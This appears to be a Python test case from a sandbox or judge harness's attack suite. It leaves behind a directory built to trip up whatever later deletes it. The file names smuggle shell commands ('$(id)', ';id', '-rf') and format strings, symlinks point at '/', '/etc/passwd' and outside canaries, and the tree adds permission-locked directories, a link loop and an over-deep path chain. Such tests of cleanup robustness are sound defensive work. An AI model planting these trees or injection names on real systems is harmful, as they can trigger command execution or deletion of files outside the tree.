# Tries: leaves a directory that harms whoever removes it: closed modes, odd names, great depth, links that lead outside
# Control: no, outside there is nobody who removes it
# Limits: cpu=5s wall=30s inodes=2000
import os
import sys

from attack import canary, held

WORLD, DIRECTORY = canary("world"), os.path.dirname(canary("file"))
NAMES = ["\n", " ", "-rf", "--", "*", "$(id)", "`id`", ";id", "\\", "'\"", "\x01\x7f", "a" * 255, "é" * 127, "....", "~"]
NAMES_B = [name.encode() for name in NAMES] + [b"\xff\xfe", b"\xed\xa0\x80", b"%s%n", b"judge-slot-x", b".. ", b"... "]
TARGETS = ["/", "..", "../..", "../in", WORLD, DIRECTORY, "/etc/passwd", "/proc/self/fd/0", ".", "loop"]

for name in NAMES_B:
    os.close(os.open(name, os.O_WRONLY | os.O_CREAT, 0o000))
    os.mkdir(name[:200] + b"d", 0o700)
    os.symlink(WORLD, name[:200] + b"l")
for number, target in enumerate(TARGETS):
    os.symlink(target, f"link{number}")
os.symlink("loop", "loop")
# Directories that may be entered but not read, or read but not entered, or neither; full of links.
for mode in (0o000, 0o100, 0o200, 0o300, 0o400, 0o500, 0o1777, 0o2777):
    os.umask(0)
    inner = f"mode{mode:o}"
    os.mkdir(inner, mode)
    for number, target in enumerate(TARGETS):
        try:
            os.symlink(target, f"{inner}/link{number}")
            os.mkdir(f"{inner}/closed{number}", 0)
        except OSError:
            break
# Links to one file, and a file of holes.
open("one", "w").close()
for number in range(50):
    os.link("one", f"one{number}")
with open("sparse", "wb") as sparse:
    os.ftruncate(sparse.fileno(), 8 << 20)
# A chain so deep that no path reaches its end, with closed directories on the way.
depth = 0
try:
    for depth in range(60):
        os.mkdir("d" * 200, 0o700)
        os.symlink(WORLD, "up")
        os.chdir("d" * 200)
except OSError:
    pass
held(f"left a tree of depth {depth}")
sys.stdout.flush()
